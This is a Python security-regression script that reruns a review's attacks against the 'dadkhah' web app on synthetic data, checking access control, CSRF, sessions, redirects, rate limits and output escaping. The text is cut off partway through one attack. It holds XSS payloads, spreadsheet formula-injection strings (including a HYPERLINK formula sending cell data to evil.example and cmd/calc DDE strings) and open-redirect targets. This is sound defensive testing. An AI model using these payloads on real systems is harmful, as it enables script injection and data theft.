"""Re-run the security review's attacks (``reviews/security-review.md``, 107 attacks on d4de26f)
against the current code, on a fresh SYNTHETIC case, and print held/broke per attack and the
totals by severity.

    PYTHONPATH=src .venv/bin/python benchmarks/security_review.py [--only W,X,C] [--json OUT]

Each attack is the review's reproduction, made runnable: the command line (``dadkhah …`` in a
subprocess), the library, the web application through FastAPI's TestClient, or a server that
``dadkhah serve`` started (X-Forwarded-For, memory, rate limits need a real uvicorn).  A few
need what this machine may not have (a PostgreSQL server: ``DADKHAH_TEST_PG_URL``); they are
reported as NOT RUN with the reason, never as held.

Severity: the review's, for the 42 attacks that broke there; for the 65 that held there, the
severity this script gives a regression (written in each ``@attack``).  Not a timed test: it
takes about 18 minutes on 2 busy cores (a 300-person simulated case; 200,000-row imports
killed with SIGKILL and SIGTERM, and re-imported; a 1 GiB zip bomb that must be refused
before extraction).

Where this differs from the review's runs: K1 imports 2 × 30,000 rows (the review 2 × 200,000);
K3 imports 100,000; the set-up is a 300-person simulation, not the 3,545-person demo case;
formula cells are checked with openpyxl and the CSV text (no spreadsheet program is run); XFF
and HSTS are tried against uvicorn as ``dadkhah serve`` starts it, without a proxy.  T4, T6
and T20 are, by their nature, caught only against a signed checkpoint of the chain head
(``dadkhah audit checkpoint``), which the attack takes before tampering, as the design asks.
"""

from __future__ import annotations

import argparse
import base64
import concurrent.futures as cf
import hashlib
import io
import json
import os
import re
import shutil
import signal
import sqlite3
import subprocess
import sys
import tempfile
import threading
import time
import traceback
import zipfile
from collections.abc import Callable, Iterator
from contextlib import contextmanager, suppress
from dataclasses import dataclass
from pathlib import Path
from typing import Any

PASSWORD = "Passw0rd-role-long"
ROLES = ("admin", "editor", "reviewer", "viewer")
SECRET = "security-review-secret"
EXE = str(Path(sys.executable).parent / "dadkhah")
IDENTITY = "PLANTEDWITNESSIDENT Zahra Qx7 / شاهدمحرمانه زهرا قاسمی‌پور"
CONTACT = "PLANTEDWITNESSCONTACT +98-912-555-0199"
HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A1,"Click")'
XSS = ['<script>window.__xss=1</script>', '"><img src=x onerror=window.__xss=2>',
       "'><svg onload=window.__xss=3>", 'علی<script>window.__xss=4</script>رضا',
       'javascript:window.__xss=5', '</textarea><b>x</b>', '{{7*7}}<b>y</b>']
FORMULAS = [HYPERLINK, "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0", "=1+1"]


# -- results ------------------------------------------------------------------------------------
@dataclass(frozen=True)
class Result:
    id: str
    group: str
    severity: str      # the review's severity if it broke there, else the one given a regression
    review: str        # HELD / BROKE at d4de26f
    outcome: str       # HELD / BROKE / NOT RUN
    evidence: str


@dataclass(frozen=True)
class Attack:
    id: str
    group: str
    severity: str
    review: str
    fn: Callable[[Any], tuple[bool, str]]


ATTACKS: list[Attack] = []


def attack(aid: str, group: str, severity: str, review: str = "HELD"
           ) -> Callable[[Callable[[Any], tuple[bool, str]]], Callable[[Any], tuple[bool, str]]]:
    def deco(fn: Callable[[Any], tuple[bool, str]]) -> Callable[[Any], tuple[bool, str]]:
        ATTACKS.append(Attack(aid, group, severity, review, fn))
        return fn
    return deco


class NotRun(Exception):
    """The attack needs something this machine lacks (said in the message)."""


# -- helpers ------------------------------------------------------------------------------------
def cli(case: Path | str, *args: str, timeout: float = 300, env: dict[str, str] | None = None,
        input: str | None = None) -> subprocess.CompletedProcess[str]:
    e = {**os.environ, "DADKHAH_CASE": str(case), "DADKHAH_USER": "redteam", **(env or {})}
    return subprocess.run([EXE, *args], env=e, capture_output=True, text=True,
                          timeout=timeout, input=input)


def out(p: subprocess.CompletedProcess[str]) -> str:
    return " ".join((p.stdout + " " + p.stderr).split())


def clean_error(p: subprocess.CompletedProcess[str]) -> bool:
    """Refused with a message, not a traceback."""
    return p.returncode != 0 and "Traceback" not in p.stderr + p.stdout


def q(loc: Path, sql: str, params: tuple[Any, ...] = ()) -> list[tuple[Any, ...]]:
    db = sqlite3.connect(loc / "case.db")
    try:
        return db.execute(sql, params).fetchall()
    finally:
        db.close()


def q1(loc: Path, sql: str, params: tuple[Any, ...] = ()) -> Any:
    return q(loc, sql, params)[0][0]


def tamper(loc: Path, *sql: str, params: tuple[Any, ...] = ()) -> None:
    """Edit case.db as a knowing attacker: save the triggers, drop them, edit, restore them."""
    db = sqlite3.connect(loc / "case.db")
    saved = db.execute("SELECT name, sql FROM sqlite_master WHERE type = 'trigger'").fetchall()
    with db:
        for name, _ in saved:
            db.execute(f"DROP TRIGGER {name}")
        for s in sql:
            db.execute(s, params) if params else db.execute(s)
        for _, ddl in saved:
            db.execute(ddl)
    db.close()


def csrf_of(html: str) -> str:
    m = re.search(r'<meta name="csrf-token" content="([0-9a-f]+)"', html)
    if not m:
        raise AssertionError("page has no CSRF token")
    return m.group(1)


def write_csv(path: Path, rows: list[list[str]], *, encoding: str = "utf-8",
              newline: str = "\n") -> Path:
    import csv

    buf = io.StringIO()
    w = csv.writer(buf, lineterminator=newline)
    w.writerows(rows)
    path.write_bytes(buf.getvalue().encode(encoding))
    return path


def free_port() -> int:
    import socket

    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return int(s.getsockname()[1])


@contextmanager
def served(loc: Path, *args: str, env: dict[str, str] | None = None
           ) -> Iterator[tuple[subprocess.Popen[bytes], str]]:
    """``dadkhah serve`` on a free port (plain HTTP: --insecure-cookies), stopped by its PID."""
    import httpx

    port = free_port()
    e = {**os.environ, "DADKHAH_CASE": str(loc), **(env or {})}
    proc = subprocess.Popen([EXE, "serve", "--port", str(port), "--insecure-cookies", *args],
                            env=e, stdout=subprocess.PIPE, stderr=subprocess.STDOUT)
    url = f"http://127.0.0.1:{port}"
    deadline = time.monotonic() + 120
    try:
        while True:
            try:
                httpx.get(f"{url}/team/login", timeout=2)
                break
            except httpx.TransportError:
                if proc.poll() is not None or time.monotonic() > deadline:
                    raise AssertionError("server did not start") from None
                time.sleep(0.3)
        yield proc, url
    finally:
        proc.terminate()
        try:
            proc.wait(timeout=15)
        except subprocess.TimeoutExpired:
            proc.kill()
            proc.wait()


def try_login(client: Any, user: str, password: str,
              headers: dict[str, str] | None = None) -> int:
    form = client.get("/team/login")
    return int(client.post("/team/login", data={
        "username": user, "password": password, "csrf_token": csrf_of(form.text),
        "next": "/team/"}, headers=headers or {}, follow_redirects=False).status_code)


# -- the case under attack --------------------------------------------------------------------
@dataclass
class World:
    root: Path
    base: Path            # a closed case folder: read-only attacks and logins run on it,
    #                       everything that writes or tampers runs on a copy
    key_file: Path
    tokens: dict[str, str]
    planted_person: int   # unpublished person (the review's 3560)
    _n: int = 0

    def copy(self, name: str | None = None) -> Path:
        self._n += 1
        target = self.root / f"{name or 'c'}-{self._n}"
        shutil.copytree(self.base, target)
        return target

    def fresh(self, name: str = "fresh") -> Path:
        """An empty case with one source ``rob``."""
        from dadkhah.store import Case

        self._n += 1
        loc = self.root / f"{name}-{self._n}"
        with Case.create(loc, by="redteam") as case:
            case.add_source(slug="rob", title="Robustness list (SYNTHETIC)", kind="ngo_list",
                            synthetic=True, by="redteam")
        return loc

    @contextmanager
    def client(self, loc: Path | None = None, *, key: bool = True, **kw: Any) -> Iterator[Any]:
        from fastapi.testclient import TestClient

        from dadkhah.web import create_app

        env_key = os.environ.pop("DADKHAH_KEY_FILE", None)
        if key:
            os.environ["DADKHAH_KEY_FILE"] = str(self.key_file)
        try:
            app = create_app(str(loc or self.base), secret_key=SECRET, require_2fa="none",
                             **{"run_jobs": False, **kw})
        finally:
            os.environ.pop("DADKHAH_KEY_FILE", None)
            if env_key:
                os.environ["DADKHAH_KEY_FILE"] = env_key
        with TestClient(app, base_url="https://testserver") as c:
            yield c
        app.state.case.close()


def login(client: Any, role: str, password: str = PASSWORD) -> str:
    code = try_login(client, role, password)
    if code != 303:
        raise AssertionError(f"login of {role} gave {code}")
    return csrf_of(client.get("/team/").text)


def build_world(root: Path, persons: int) -> World:
    from dadkhah import casefile as cf
    from dadkhah import users
    from dadkhah.ingest import import_file
    from dadkhah.linkage import link_case
    from dadkhah.portal import publish, synthetic_person_ids, unpublish
    from dadkhah.register import normalize_case
    from dadkhah.testing import simulated_case

    t0 = time.monotonic()
    base = root / "base"
    sc = simulated_case(base, scenario="small", persons=persons, seed=2)
    case = sc.case
    cf.load_example(case, by="redteam", role="admin")
    tokens = {}
    for role in ROLES:
        users.add_user(case, f"{role}1", PASSWORD.replace("role", role), role=role, by="redteam")
        tokens[role] = users.create_api_token(case, f"{role}1", "redteam", by="redteam")
    key_file = root / "case.key"
    key = cf.write_key_file(key_file)
    cf.add_testimony(case, pseudonym="w-planted", identity=IDENTITY, contact=CONTACT,
                     summary="A planted testimony " + XSS[0], key=key, by="redteam", role="admin")
    case.add_source(slug="xss-src", title="XSS " + XSS[1], kind="ngo_list", reliability="C",
                    synthetic=True, citation="cite " + XSS[2], organisation=XSS[6],
                    by="redteam")
    rows = [["name", "father name", "death date", "prison", "notes"]]
    for i, p in enumerate(XSS):
        rows.append([f"Xss{i} {p}", f"Father{i} {p}", "1988-08-0" + str(1 + i % 9), "Evin", p])
    for i, f in enumerate(FORMULAS):
        rows.append([f, f"Formulafather{i}", "1988-08-10", "Evin", f])
    rows += [["\u202eevil\u202c Hosseini", "Ali", "1988-08-11", "Evin", "rtl override"],
             ["Ali\u200dReza\u200b Karimi", "Hasan", "1988-08-12", "Evin", "zwj zwsp"],
             ["علي كريمي", "حسن", "1367-05-10", "اوين", "arabic yeh kaf"],
             ["Khosrowplantednonpublic Tabrizian", "Fatherplantednonpublic", "1988-08-13",
              "Gohardasht", "the planted unpublished person"]]
    import_file(case, write_csv(root / "xss.csv", rows), source="xss-src", by="redteam")
    cf.add_actor(case, slug="xss-actor", kind="person", name_en="Actor " + XSS[0],
                 name_fa="عامل " + XSS[3], aliases=[XSS[2]], notes=XSS[5], sources=["xss-src"],
                 by="redteam", role="admin")
    cf.add_event(case, slug="xss-event", event_type="other", title="Event " + XSS[1],
                 description=XSS[6], date="1988-08-01", sources=["xss-src"], by="redteam",
                 role="admin")
    cf.add_allegation(case, accused="xss-actor", event="xss-event", mode="ordered",
                      text="Allegation " + XSS[0], sources=["xss-src"], by="redteam",
                      role="admin")
    normalize_case(case, by="redteam")
    link_case(case, by="redteam")
    publish(case, synthetic_person_ids(case), by="redteam", role="admin")
    with case.read() as conn:
        from sqlalchemy import text

        planted = int(conn.execute(text(
            "SELECT pr.person_id FROM person_records pr JOIN source_records r "
            "ON r.id = pr.record_id WHERE r.full_name LIKE 'Khosrowplanted%'")).scalar_one())
    unpublish(case, [planted], by="redteam", role="admin")
    case.close()
    print(f"# case built in {time.monotonic() - t0:.0f} s: {persons} simulated persons, the "
          f"example case file, planted payloads (SYNTHETIC)", flush=True)
    return World(root, base, key_file, tokens, planted)


# == Web application, API and portal ============================================================
UNSAFE = {"POST", "PUT", "PATCH", "DELETE"}
ANONYMOUS_OK = {"/team/login", "/api/openapi.json", "/api/docs", "/api/docs/oauth2-redirect"}


def _routes(w: World) -> list[tuple[str, str]]:
    from dadkhah.web import create_app
    from dadkhah.web.app import route_table

    app = create_app(str(w.base), secret_key="x", run_jobs=False)
    r = route_table(app)
    app.state.case.close()
    return r


def _team(path: str) -> bool:
    return path.startswith(("/team", "/api")) and not path.startswith("/api/public") \
        and path not in ANONYMOUS_OK


def _fill(path: str) -> str:
    return re.sub(r"\{[^}]+\}", "1", path)


def _audit_n(loc: Path) -> int:
    return int(q1(loc, "SELECT count(*) FROM audit_log"))


@attack("W1", "web", "high")
def w1(w: World) -> tuple[bool, str]:
    bad, n = [], 0
    with w.client() as c:
        token = csrf_of(c.get("/team/login").text)
        for method, path in _routes(w):
            if not _team(path):
                continue
            for accept in ("text/html", "application/json"):
                if method == "GET":
                    r = c.get(_fill(path), headers={"Accept": accept}, follow_redirects=False)
                    ok = r.status_code in (401, 403) or (
                        r.status_code == 303 and r.headers["location"].startswith("/team/login"))
                elif method in UNSAFE:
                    r = c.request(method, _fill(path), data={"csrf_token": token},
                                  headers={"X-CSRF-Token": token, "Accept": accept},
                                  follow_redirects=False)
                    ok = r.status_code in (401, 403)
                else:
                    continue
                n += 1
                if not ok:
                    bad.append(f"{method} {path} {r.status_code}")
    return not bad, f"{n} anonymous requests; let through: {bad[:3] or 'none'}"


@attack("W2", "web", "high")
def w2(w: World) -> tuple[bool, str]:
    from dadkhah.web.account import SELF_SERVICE_PATHS

    bad, n = [], 0
    before = _audit_n(w.base)
    for role in ("viewer",):
        with w.client() as c:
            token = login(c, f"{role}1", PASSWORD.replace("role", role))
            for method, path in _routes(w):
                if method not in UNSAFE or not _team(path) or path in SELF_SERVICE_PATHS \
                        or path == "/lang":
                    continue
                r = c.request(method, _fill(path), data={"csrf_token": token, "role": "admin",
                                                         "username": "viewer1"},
                              headers={"X-CSRF-Token": token}, follow_redirects=False)
                n += 1
                if r.status_code != 403:
                    bad.append(f"{method} {path} {r.status_code}")
    with w.client() as c:
        token = login(c, "reviewer1", PASSWORD.replace("role", "reviewer"))
        for path in ("/team/imports/preview", "/team/users", "/team/sources"):
            n += 1
            r = c.post(path, data={"csrf_token": token, "username": "x", "role": "admin"},
                       follow_redirects=False)
            if r.status_code != 403:
                bad.append(f"reviewer POST {path} {r.status_code}")
    for role in ("viewer", "reviewer"):
        with w.client() as c:
            r = c.post("/api/review/decisions", json={"record_l": 1, "record_r": 2,
                                                      "decision": "match"},
                       headers={"Authorization": f"Bearer {w.tokens[role]}"})
            n += 1
            if role == "viewer" and r.status_code != 403:
                bad.append(f"viewer token decision {r.status_code}")
    # login writes an audit entry (W2 asks about data writes): compare data tables only
    after_decisions = q1(w.base, "SELECT count(*) FROM decisions")
    return not bad, (f"{n} writes by roles lacking the right; not refused: {bad[:3] or 'none'}"
                     f"; decisions {after_decisions}; audit {before}→{_audit_n(w.base)} "
                     "(logins only)")


def _submission(w: World, loc: Path, **fields: str) -> int:
    from dadkhah import casefile as cf
    from dadkhah.portal import submit, validate_submission

    form = validate_submission({"kind": "report", "relation": "sister", "language": "en",
                                **fields})
    from dadkhah.store import Case

    with Case.open(loc) as case:
        return int(submit(case, form, key=cf.load_key(w.key_file)).id)


@attack("W3", "web", "high")
def w3(w: World) -> tuple[bool, str]:
    loc = w.copy("w3")
    sid = _submission(w, loc, full_name="Hossein Contactperson", contact="PLANTEDSUBCONTACT x")
    with w.client(loc) as c:
        login(c, "reviewer1", PASSWORD.replace("role", "reviewer"))
        html = c.get(f"/team/submissions/{sid}").text
        tok = csrf_of(html)
        r = c.post(f"/team/submissions/{sid}/contact", data={"csrf_token": tok},
                   follow_redirects=False)
    leaked = "PLANTEDSUBCONTACT" in html or "PLANTEDSUBCONTACT" in r.text
    return not leaked, f"reviewer: page {'shows' if leaked else 'hides'} the contact; " \
                       f"reveal POST {r.status_code}"


@attack("W4", "web", "high")
def w4(w: World) -> tuple[bool, str]:
    with w.client() as c:
        login(c, "editor1", PASSWORD.replace("role", "editor"))
        html = c.get("/team/casefile/testimonies").text
    return ("PLANTEDWITNESS" not in html and "w-planted" in html,
            "testimonies page as editor: pseudonym shown, identity "
            + ("absent" if "PLANTEDWITNESS" not in html else "SHOWN"))


@attack("W5", "web", "medium")
def w5(w: World) -> tuple[bool, str]:
    loc = w.copy("w5")
    a, b = q(loc, "SELECT id FROM persons WHERE status='active' ORDER BY id LIMIT 2")
    rec_b = q1(loc, "SELECT record_id FROM person_records WHERE person_id = ?", (b[0],))
    before = q(loc, "SELECT person_id FROM person_records WHERE record_id = ?", (rec_b,))
    with w.client(loc) as c:
        tok = login(c, "reviewer1", PASSWORD.replace("role", "reviewer"))
        r = c.post(f"/team/persons/{a[0]}/split", data={"csrf_token": tok,
                                                       "records": str(rec_b)},
                   follow_redirects=False)
    after = q(loc, "SELECT person_id FROM person_records WHERE record_id = ?", (rec_b,))
    return (r.status_code >= 400 and before == after,
            f"split person {a[0]} with a record of {b[0]}: {r.status_code}, record "
            f"{'unchanged' if before == after else 'MOVED'}")


@attack("W6", "web", "medium")
def w6(w: World) -> tuple[bool, str]:
    loc = w.copy("w6")
    pid = q1(loc, "SELECT min(id) FROM persons WHERE status='active'")
    rid = q1(loc, "SELECT min(id) FROM source_records")
    n0 = q1(loc, "SELECT count(*) FROM decisions")
    codes = []
    with w.client(loc) as c:
        tok = login(c, "reviewer1", PASSWORD.replace("role", "reviewer"))
        for path, data in [(f"/team/persons/{pid}/merge", {"other": str(pid)}),
                           (f"/team/persons/{pid}/merge", {"other": "99999999"}),
                           ("/team/review/decide", {"record_l": rid, "record_r": rid,
                                                    "decision": "match"}),
                           ("/team/review/decide", {"record_l": rid, "record_r": 99999999,
                                                    "decision": "match"}),
                           ("/team/review/decide", {"record_l": rid, "record_r": rid + 1,
                                                    "decision": "maybe-later"})]:
            r = c.post(path, data={"csrf_token": tok, **data}, follow_redirects=False)
            codes.append(r.status_code)
    n1 = q1(loc, "SELECT count(*) FROM decisions")
    return (all(400 <= x < 500 for x in codes) and n0 == n1,
            f"codes {codes}; decisions {n0}→{n1}")


@attack("W7", "web", "high")
def w7(w: World) -> tuple[bool, str]:
    codes = []
    with w.client() as a, w.client() as b:
        anon = csrf_of(a.get("/team/login").text)
        tok_a = login(a, "admin1", PASSWORD.replace("role", "admin"))
        login(b, "admin1", PASSWORD.replace("role", "admin"))
        data = {"slug": "csrf-x", "title": "t", "kind": "other"}
        codes.append(a.post("/team/sources", data=data, follow_redirects=False).status_code)
        codes.append(a.post("/team/sources", data={**data, "csrf_token": "0" * 64},
                            follow_redirects=False).status_code)
        codes.append(b.post("/team/sources", data={**data, "csrf_token": tok_a},
                            follow_redirects=False).status_code)
        codes.append(a.post("/team/sources", data={**data, "csrf_token": anon},
                            follow_redirects=False).status_code)
        codes.append(a.post("/team/sources", data=data, headers={
            "Origin": "https://evil.example", "Referer": "https://evil.example/"},
            follow_redirects=False).status_code)
        codes.append(a.post("/team/sources", content=f"csrf_token={tok_a}&slug=x",
                            headers={"Content-Type": "text/plain"},
                            follow_redirects=False).status_code)
        codes.append(a.post("/api/review/decisions", json={"record_l": 1, "record_r": 2,
                                                           "decision": "match"}).status_code)
    with w.client() as c:
        c.get("/team/login")
        codes.append(c.post("/team/login", data={"username": "admin1", "password": "x"},
                            follow_redirects=False).status_code)
        codes.append(c.post("/lang", data={"lang": "fa"}, follow_redirects=False).status_code)
        codes.append(c.post("/submit", data={"full_name": "x"},
                            follow_redirects=False).status_code)
    n = q1(w.base, "SELECT count(*) FROM sources WHERE slug LIKE 'csrf%'")
    return all(x == 403 for x in codes) and n == 0, f"10 variants: {codes}"


@attack("W8", "web", "medium")
def w8(w: World) -> tuple[bool, str]:
    with w.client() as c:
        form = c.get("/team/login")
        r = c.post("/team/login", data={"username": "viewer1",
                                        "password": PASSWORD.replace("role", "viewer"),
                                        "csrf_token": csrf_of(form.text), "next": "/team/"},
                   follow_redirects=False)
    sc = "; ".join(v for k, v in r.headers.multi_items() if k.lower() == "set-cookie"
                   and "session" in v.lower() or k.lower() == "set-cookie")
    low = sc.lower()
    ok = "httponly" in low and "secure" in low and "samesite" in low
    return ok, sc[:150]


@attack("W9", "web", "high")
def w9(w: World) -> tuple[bool, str]:
    from dadkhah.web.app import SESSION_COOKIE

    chosen = "attacker-chosen-token-0123456789"
    with w.client() as c:
        form = c.get("/team/login")
        c.cookies.set(SESSION_COOKIE, chosen, domain="testserver.local")
        r = c.post("/team/login", data={"username": "viewer1",
                                        "password": PASSWORD.replace("role", "viewer"),
                                        "csrf_token": csrf_of(form.text), "next": "/team/"},
                   follow_redirects=False)
    new = r.cookies.get(SESSION_COOKIE)
    return (r.status_code == 303 and bool(new) and new != chosen,
            f"login {r.status_code}; session cookie set: {str(new)[:12]}…")


@attack("W10", "web", "high")
def w10(w: World) -> tuple[bool, str]:
    from dadkhah.web.app import SESSION_COOKIE

    with w.client() as c:
        tok = login(c, "viewer1", PASSWORD.replace("role", "viewer"))
        old = c.cookies.get(SESSION_COOKIE)
        c.post("/team/logout", data={"csrf_token": tok}, follow_redirects=False)
    with w.client() as c:
        c.cookies.set(SESSION_COOKIE, old)
        r = c.get("/team/", follow_redirects=False)
    return r.status_code == 303, f"old cookie after logout: {r.status_code} " \
                                 f"{r.headers.get('location', '')}"


@attack("W11", "web", "high")
def w11(w: World) -> tuple[bool, str]:
    from dadkhah import users
    from dadkhah.store import Case

    loc = w.copy("w11")
    with Case.open(loc) as case:
        users.set_disabled(case, "editor1", True, by="admin1")
    with w.client(loc) as c:
        a = c.get("/api/me", headers={"Authorization": f"Bearer {w.tokens['editor']}"})
        b = try_login(c, "editor1", PASSWORD.replace("role", "editor"))
    return a.status_code == 401 and b in (401, 403), f"token {a.status_code}, login {b}"


@attack("W12", "web", "high")
def w12(w: World) -> tuple[bool, str]:
    from dadkhah import users
    from dadkhah.store import Case
    from dadkhah.web.app import SESSION_COOKIE

    loc = w.copy("w12")
    with w.client(loc) as c:
        login(c, "editor1", PASSWORD.replace("role", "editor"))
        cookie = c.cookies.get(SESSION_COOKIE)
    with Case.open(loc) as case:
        users.set_password(case, "editor1", "a brand new password", by="admin1")
    with w.client(loc) as c:
        c.cookies.set(SESSION_COOKIE, cookie)
        a = c.get("/team/", follow_redirects=False).status_code
        b = c.get("/api/me", headers={"Authorization": f"Bearer {w.tokens['editor']}"})
    return a == 303 and b.status_code == 401, f"old login {a}, old token {b.status_code}"


@attack("W13", "web", "high")
def w13(w: World) -> tuple[bool, str]:
    with w.client(w.copy("w13")) as c:
        codes = [try_login(c, "reviewer1", "wrong password!") for _ in range(5)]
        codes.append(try_login(c, "reviewer1", PASSWORD.replace("role", "reviewer")))
    return codes[-1] == 429, f"codes {codes}"


@attack("W14", "web", "high")
def w14(w: World) -> tuple[bool, str]:
    with w.client(w.copy("w14")) as c:
        for _ in range(5):
            try_login(c, "reviewer1", "wrong password!")
        codes = [try_login(c, u, PASSWORD.replace("role", "reviewer"))
                 for u in ("Reviewer1", " reviewer1 ", "REVIEWER1", "reviewer1\t")]
    return all(x == 429 for x in codes), f"variants after lock-out: {codes}"


@attack("W15", "web", "medium", "BROKE")
def w15(w: World) -> tuple[bool, str]:
    import httpx

    loc = w.copy("w15")
    with served(loc) as (_, url), httpx.Client(base_url=url) as c:
        codes = [try_login(c, "reviewer1", "wrong password!") for _ in range(6)]
        spoof = try_login(c, "reviewer1", PASSWORD.replace("role", "reviewer"),
                          {"X-Forwarded-For": "203.0.113.77"})
        rot = [try_login(c, "viewer1", "wrong password!",
                         {"X-Forwarded-For": f"198.51.100.{i}"}) for i in range(12)]
    return (spoof == 429 and 429 in rot,
            f"after lock-out {codes[-1]}; right password + XFF {spoof}; 12 guesses rotating "
            f"XFF: {rot.count(401)}×401 {rot.count(429)}×429")


@attack("W16", "web", "low", "BROKE")
def w16(w: World) -> tuple[bool, str]:
    codes = []
    with w.client(w.copy("w16")) as c:
        for u in ("admin1", "editor1", "reviewer1", "viewer1"):
            codes += [try_login(c, u, "Spring2026!guess") for _ in range(4)]
    return 429 in codes, f"16 guesses on 4 accounts: {codes.count(401)}×401 " \
                         f"{codes.count(429)}×429"


def _rss_hwm(pid: int) -> int:
    """Peak resident memory of pid and its children (kB)."""
    total = 0
    pids = [pid] + [int(x) for x in subprocess.run(
        ["pgrep", "-P", str(pid)], capture_output=True, text=True).stdout.split()]
    for p in pids:
        with suppress(OSError):
            for line in Path(f"/proc/{p}/status").read_text().splitlines():
                if line.startswith("VmHWM"):
                    total += int(line.split()[1])
    return total


@attack("W17", "web", "low")
def w17(w: World) -> tuple[bool, str]:
    import statistics

    with w.client(w.copy("w17")) as c:
        def timed(u: str) -> float:
            t = time.perf_counter()
            try_login(c, u, "wrong password!")
            return time.perf_counter() - t
        # Alternate, and stay under the per-address limit (10 failures): a 429 is quick.
        a, b = [], []
        for i in range(4):
            a.append(timed(("viewer1", "editor1")[i % 2]))
            b.append(timed(f"nobody{i}"))
    ma, mb = statistics.median(a) * 1000, statistics.median(b) * 1000
    return abs(ma - mb) < max(60, 0.35 * ma), f"medians existing {ma:.0f} ms / missing " \
                                             f"{mb:.0f} ms"


@attack("W18", "web", "low", "BROKE")
def w18(w: World) -> tuple[bool, str]:
    import httpx

    loc = w.copy("w18")
    with served(loc) as (proc, url):
        with httpx.Client(base_url=url) as c:
            c.get("/")
            before = _rss_hwm(proc.pid)
            t = time.perf_counter()
            c.get("/memorial")
            public0 = time.perf_counter() - t

        def one(i: int) -> int:
            with httpx.Client(base_url=url, timeout=120) as cc:
                return try_login(cc, f"random-user-{i}-{os.urandom(3).hex()}", "x" * 12)
        slow = []
        with cf.ThreadPoolExecutor(24) as ex:
            futs = [ex.submit(one, i) for i in range(24)]
            time.sleep(0.5)
            with httpx.Client(base_url=url, timeout=120) as c:
                t = time.perf_counter()
                c.get("/memorial")
                slow.append(time.perf_counter() - t)
            codes = [f.result() for f in futs]
        after = _rss_hwm(proc.pid)
    grew = (after - before) / 1024
    return (grew < 300, f"24 concurrent logins of unknown users: peak RSS +{grew:.0f} MB "
                        f"({before / 1024:.0f}→{after / 1024:.0f} MB); public page "
                        f"{public0 * 1000:.0f}→{slow[0] * 1000:.0f} ms; codes "
                        f"{sorted(set(codes))}")


@attack("W19", "web", "high")
def w19(w: World) -> tuple[bool, str]:
    targets = ["//evil.example/x", "https://evil.example/", "/\\evil.example", "/%5Cevil.example",
               "/\tevil.example", "/\nevil.example", "///evil.example", "http:evil.example",
               "\u3002//evil.example", "\u2215\u2215evil.example", "https:/evil.example",
               "//evil.example@x", "/%2F/evil.example", "javascript:alert(1)", " //evil.example",
               "\\\\evil.example", "%2F%2Fevil.example"]
    bad = []
    for t in targets:
        with w.client(w.copy("w19") if not bad and t == targets[0] else w.base) as c:
            form = c.get("/team/login")
            r = c.post("/team/login", data={"username": "viewer1",
                                            "password": PASSWORD.replace("role", "viewer"),
                                            "csrf_token": csrf_of(form.text), "next": t},
                       follow_redirects=False)
            loc = r.headers.get("location", "")
            if not loc.startswith("/") or loc.startswith(("//", "/\\")):
                bad.append(f"{t!r}→{loc}")
            tok = csrf_of(c.get("/").text)
            r2 = c.post("/lang", data={"lang": "fa", "next": t, "csrf_token": tok},
                        follow_redirects=False)
            loc2 = r2.headers.get("location", "/")
            if not loc2.startswith("/") or loc2.startswith(("//", "/\\")):
                bad.append(f"/lang {t!r}→{loc2}")
    return not bad, f"{len(targets)} targets on login and /lang; off-site: {bad[:3] or 'none'}"


# Payloads as markup: escaped text (&lt;img …) does not match.
_MARKERS = ["<script>window.__xss", "<img src=x onerror", "<svg onload", "<b>x</b>", "<b>y</b>",
            'href="javascript:window']


def _html(r: Any) -> str:
    """The body when it is HTML (JSON holds payloads as data, served as JSON with nosniff)."""
    return r.text if "html" in r.headers.get("content-type", "") else ""


def _pages(w: World, c: Any) -> list[str]:
    paths = ["/", "/memorial", "/memorial?q=Xss", "/articles", "/submit",
             "/api/public/persons?q=Xss"]
    for (pid,) in q(w.base, "SELECT person_id FROM published_persons ORDER BY person_id "
                            "LIMIT 5"):
        paths.append(f"/memorial/{pid}")
    return paths


@attack("W20", "web", "high")
def w20(w: World) -> tuple[bool, str]:
    found, n = [], 0
    team = ["/team/", "/team/search?q=Xss", "/team/sources", "/team/casefile/",
            "/team/casefile/timeline", "/team/casefile/map", "/team/casefile/testimonies",
            "/team/review", "/team/imports", "/team/users", "/team/audit", "/team/submissions",
            "/team/jobs", "/team/casefile/actors/xss-actor", "/team/casefile/events/xss-event",
            "/team/casefile/actors/xss-actor/edit", "/team/casefile/events/xss-event/edit"]
    team += [f"/team/casefile/evidence/{e}" for (e,) in q(w.base, "SELECT id FROM evidence")]
    team += [f"/team/casefile/allegations/{a}/edit" for (a,) in q(
        w.base, "SELECT id FROM allegations ORDER BY id DESC LIMIT 2")]
    xss_persons = [p for (p,) in q(w.base, "SELECT DISTINCT pr.person_id FROM person_records pr "
                                           "JOIN source_records r ON r.id = pr.record_id "
                                           "WHERE r.full_name LIKE 'Xss%'")]
    team += [f"/team/persons/{p}" for p in xss_persons[:7]]
    with w.client() as c:
        for lang in ("en", "fa"):
            c.cookies.set("lang", lang)
            for p in _pages(w, c):
                html = _html(c.get(p))
                n += 1
                found += [f"{p}: {m}" for m in _MARKERS if m in html]
        login(c, "admin1", PASSWORD.replace("role", "admin"))
        for lang in ("en", "fa"):
            c.cookies.set("lang", lang)
            for p in team:
                r = c.get(p)
                n += 1
                found += [f"{p}: {m}" for m in _MARKERS if m in _html(r)]
                if r.status_code >= 400:
                    found.append(f"{p}: {r.status_code}")
    return not found, f"{n} pages (en, fa) scanned for unescaped payloads: {found[:3] or 'none'}"


@attack("W21", "web", "high")
def w21(w: World) -> tuple[bool, str]:
    """In Chromium: load pages holding payloads and see whether anything ran."""
    try:
        from playwright.sync_api import sync_playwright
    except ImportError as exc:
        raise NotRun("Playwright is not installed") from exc
    from dadkhah.report import chromium_path

    loc = w.copy("w21")
    ran: list[str] = []
    pages = 0
    with served(loc, env={"DADKHAH_KEY_FILE": str(w.key_file)}) as (_, url), \
            sync_playwright() as pw:
        browser = pw.chromium.launch(executable_path=chromium_path(), args=[
            "--no-sandbox", "--disable-gpu"])
        ctx = browser.new_context(base_url=url)
        page = ctx.new_page()
        page.on("dialog", lambda d: (ran.append("dialog " + d.message), d.dismiss()))
        page.goto("/team/login")
        page.fill("input[name=username]", "admin1")
        page.fill("input[name=password]", PASSWORD.replace("role", "admin"))
        page.click("button[type=submit]")
        page.wait_for_url("**/team/**")
        xss_persons = [p for (p,) in q(loc, "SELECT DISTINCT pr.person_id FROM person_records "
                                            "pr JOIN source_records r ON r.id = pr.record_id "
                                            "WHERE r.full_name LIKE 'Xss%'")]
